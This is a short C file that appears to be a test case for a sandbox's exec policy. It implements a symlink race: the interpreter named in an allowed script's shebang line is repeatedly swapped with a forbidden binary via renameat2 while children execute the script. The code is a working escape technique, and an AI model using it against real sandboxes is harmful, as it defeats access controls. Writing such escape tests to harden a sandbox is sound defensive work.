// escape: the interpreter that an allowed script names is a symlink, which is exchanged
// group: path races
// policy: exec-script
// attempts: 1500
#include "escape.h"

static void attack(void) {
  if (symlink(GOOD, "/tmp/here") < 0 || symlink(forbidden(), "/tmp/there") < 0) broken("symlink");
  write_script("/tmp/script", "#!/tmp/here\n");
  if (beside()) {
    for (;;) {
      if (renameat2(AT_FDCWD, "/tmp/here", AT_FDCWD, "/tmp/there", RENAME_EXCHANGE) < 0) broken("renameat2");
    }
  }
  while (more()) {
    if (!in_child()) continue;
    run("/tmp/script");
    _exit(1);
  }
}
